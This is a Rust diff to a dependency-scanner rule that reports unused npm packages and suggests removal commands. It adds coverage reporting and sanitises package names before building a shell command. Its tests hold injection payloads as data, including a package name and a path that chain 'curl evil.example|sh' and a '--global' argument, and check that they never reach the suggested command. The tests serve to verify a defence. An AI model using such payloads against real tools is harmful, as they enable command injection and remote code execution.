@@ -12,7 +12,9 @@ use tokio_util::sync::CancellationToken;
 use super::{Repo, is_aside, is_lock, listed, name_of, named};
 use crate::model::{Confidence, Coverage, Finding, Location, RuleKind, RuleMeta, Severity, Span};
 use crate::probe::files::FileEntry;
-use crate::probe::packages::{Declared, Ecosystem, LockFile, Manager, Manifest, Packages, Scope};
+use crate::probe::packages::{Declared, Ecosystem, LockFile, Manager, Manifest, Packages, Scope, typed};
+use crate::probe::repository::manifests;
+use crate::probe::repository::repo::folder_of;
 
 mod implicit;
 
@@ -38,9 +40,9 @@ pub fn look(repo: &Repo, packages: &Packages, cancel: &CancellationToken) -> (Ve
     let asked: Vec<(&Manifest, &LockFile, Vec<&Declared>)> =
         packages.manifests.values().filter_map(|manifest| in_question(packages, manifest)).collect();
     let names: BTreeSet<&str> = asked.iter().flat_map(|(_, _, all)| all.iter().map(|one| called(one))).collect();
+    let limits = limits(repo, packages);
     if names.is_empty() {
-        let none = "no package of production is left that only its name in a text could account for";
-        return (Vec::new(), Coverage::Absent(none.to_owned()));
+        return (Vec::new(), limits);
     }
     let texts: Vec<&FileEntry> = repo.entries().filter(|file| is_looked_into(&file.path)).collect();
     let (used, unread) = uses(&names, &texts, cancel);
@@ -57,7 +59,37 @@ pub fn look(repo: &Repo, packages: &Packages, cancel: &CancellationToken) -> (Ve
         let unused: Vec<&Declared> = all.iter().copied().filter(|one| !used.contains(called(one))).collect();
         finding(manifest, lock, &unused)
     });
-    (found.collect(), Coverage::Part("A package that a text only mentions counts as used".to_owned()))
+    (found.collect(), limits)
+}
+
+/// What of the project's packages is never told, whatever its texts say: how far the rule can get at best.
+fn limits(repo: &Repo, packages: &Packages) -> Coverage {
+    let product = || packages.manifests.values().filter(|manifest| !is_aside(&manifest.path));
+    if let Some(why) = manifests::unread(repo, packages).or_else(|| manifests::unclear(product())) {
+        return Coverage::Part(why);
+    }
+    let asks =
+        |manifest: &&Manifest| manifest.declared.iter().any(|one| one.scope == Scope::Production && !one.optional);
+    let asking: Vec<&Manifest> = product().filter(asks).collect();
+    if asking.is_empty() {
+        return Coverage::Absent("no manifest asks for packages of production".to_owned());
+    }
+    let other = asking.iter().find(|manifest| name_of(&manifest.path) != "package.json");
+    Coverage::Part(match (other, asking.iter().find(|manifest| lock_of(packages, manifest).is_none())) {
+        (Some(one), _) => format!("Packages of `{}` are not looked for, only those of `package.json`", one.path),
+        (None, Some(one)) => format!("No lock file says which packages of `{}` others need", one.path),
+        (None, None) => {
+            "A package that a text only mentions, or that a framework may take in, counts as used".to_owned()
+        }
+    })
+}
+
+/// The lock file that answers for a `package.json`.
+fn lock_of<'a>(packages: &'a Packages, manifest: &Manifest) -> Option<&'a LockFile> {
+    let answers = |lock: &&LockFile| {
+        lock.manager.ecosystem() == Ecosystem::Npm && lock.roots.iter().any(|root| root.manifest == manifest.path)
+    };
+    packages.locks.iter().find(answers)
 }
 
 fn called(declared: &Declared) -> &str {
@@ -73,10 +105,7 @@ fn in_question<'a>(
     if name_of(&manifest.path) != "package.json" || is_aside(&manifest.path) {
         return None;
     }
-    let answers = |lock: &&LockFile| {
-        lock.manager.ecosystem() == Ecosystem::Npm && lock.roots.iter().any(|root| root.manifest == manifest.path)
-    };
-    let lock = packages.locks.iter().find(answers)?;
+    let lock = lock_of(packages, manifest)?;
     let needed: BTreeSet<&str> = lock
         .packages
         .iter()
@@ -99,11 +128,7 @@ fn is_looked_into(path: &str) -> bool {
     let prose = [".md", ".rst", ".txt", ".lock", ".svg", ".map", ".csv", ".po"].iter().any(|end| name.ends_with(end));
     let about_updates =
         name.starts_with("renovate") || name.starts_with(".renovaterc") || name.starts_with("dependabot");
-    !prose
-        && !about_updates
-        && !is_lock(name_of(path))
-        && !name.starts_with("license")
-        && !name.starts_with("changelog")
+    !prose && !about_updates && !is_lock(path) && !name.starts_with("license") && !name.starts_with("changelog")
 }
 
 /// The names that some text names, and how many files of code could not be read.
@@ -208,8 +233,6 @@ fn finding(manifest: &Manifest, lock: &LockFile, unused: &[&Declared]) -> Option
         1 => format!("`{}` installs {all}, and nothing in the project names it", manifest.path),
         _ => format!("`{}` installs {all}, and nothing in the project names them", manifest.path),
     };
-    let folder =
-        manifest.path.strip_suffix("/package.json").map(|folder| format!("cd {folder} && ")).unwrap_or_default();
     let command = match lock.manager {
         Manager::Pnpm => "pnpm remove",
         Manager::YarnClassic | Manager::YarnBerry => "yarn remove",
@@ -217,7 +240,13 @@ fn finding(manifest: &Manifest, lock: &LockFile, unused: &[&Declared]) -> Option
         _ => "npm uninstall",
     };
     let names: Vec<&str> = unused.iter().map(|one| called(one)).collect();
-    let fix = format!("Run `{folder}{command} {}`, then the tests and the production build.", names.join(" "));
+    // Names come from strangers: one that a shell would read as more than a name is not put into a command.
+    let typed = names.iter().all(|name| typed::is_plain(name)).then(|| format!("{command} {}", names.join(" ")));
+    let fix = match typed.and_then(|command| typed::in_folder(folder_of(&manifest.path), &command)) {
+        Some(command) => format!("Run `{command}`, then the tests and the production build."),
+        None => "Remove what is listed here from the manifest, install, and run the tests and the production build."
+            .to_owned(),
+    };
     let lines: Vec<String> = unused.iter().map(|one| format!("line {}  {}", one.line, called(one))).collect();
     let location = Location::File { path: manifest.path.clone(), span: Some(Span::line(first.line)) };
     Some(Finding::new(&META, location, "unused", message).fix(fix).evidence(listed(&lines)))
@@ -270,6 +299,25 @@ mod tests {
     }
 
     #[test]
+    fn a_command_holds_nothing_but_names() {
+        let finding = |path: &str, ask: &str| {
+            let manifest = samples::manifest(path, &[ask]);
+            let lock = samples::lock(Manager::Npm, "package-lock.json", path, &[]);
+            super::finding(&manifest, &lock, &[&manifest.declared[0]]).unwrap().fix
+        };
+        assert!(finding("apps/web/package.json", "zod ^4").starts_with("Run `cd apps/web && npm uninstall zod`"));
+        assert!(finding("my shop/package.json", "zod ^4").starts_with("Run `cd \"my shop\" && npm uninstall zod`"));
+        for (path, ask) in [
+            ("package.json", "x;curl${IFS}evil.example ^1"),
+            ("package.json", "--global ^1"),
+            ("a;curl evil.example|sh/package.json", "zod ^4"),
+        ] {
+            let fix = finding(path, ask);
+            assert!(!fix.contains('`') && !fix.contains("evil") && !fix.contains("--global"), "{fix}");
+        }
+    }
+
+    #[test]
     fn what_others_take_in_is_not_told() {
         let files = [
             ("src/app.js", "run();\n"),
@@ -284,6 +332,31 @@ mod tests {
         lock.packages[0].needs = vec![1];
         let packages = samples::packages(vec![samples::manifest("package.json", &asks)], vec![lock]);
         assert_eq!(look(&repo, &packages, &CancellationToken::new()).0, []);
+    }
+
+    #[test]
+    fn what_is_never_looked_for_is_no_silence() {
+        let (_folder, repo) = repo(&[("src/app.js", "import 'axios';")]);
+        let how = |manifests: Vec<Manifest>, locks| {
+            look(&repo, &samples::packages(manifests, locks), &CancellationToken::new()).1
+        };
+        let says =
+            |how: Coverage, word: &str| assert!(matches!(&how, Coverage::Part(why) if why.contains(word)), "{how:?}");
+        let node = || samples::manifest("package.json", &["react ^19"]);
+        let lock = || samples::lock(Manager::Npm, "package-lock.json", "package.json", &["react 19.0.0 ^19"]);
+        assert!(matches!(how(vec![samples::manifest("package.json", &[])], vec![]), Coverage::Absent(_)));
+        assert!(matches!(how(vec![samples::manifest("tests/package.json", &["a ^1"])], vec![]), Coverage::Absent(_)));
+        says(how(vec![node()], vec![lock()]), "framework");
+        says(how(vec![node()], vec![]), "No lock file");
+        says(
+            how(vec![node(), samples::manifest("api/pyproject.toml", &["flask"])], vec![lock()]),
+            "`api/pyproject.toml`",
+        );
+        let mut open = samples::manifest("Gemfile", &[]);
+        open.gaps.add(crate::probe::packages::manifest::reason::DYNAMIC, "line 2");
+        says(how(vec![node(), open], vec![lock()]), "`Gemfile` has 1 entry");
+        let (_folder, broken) = super::tests::repo(&[("package.json", "{")]);
+        says(look(&broken, &Packages::default(), &CancellationToken::new()).1, "`package.json` was not understood");
     }
 
     #[test]
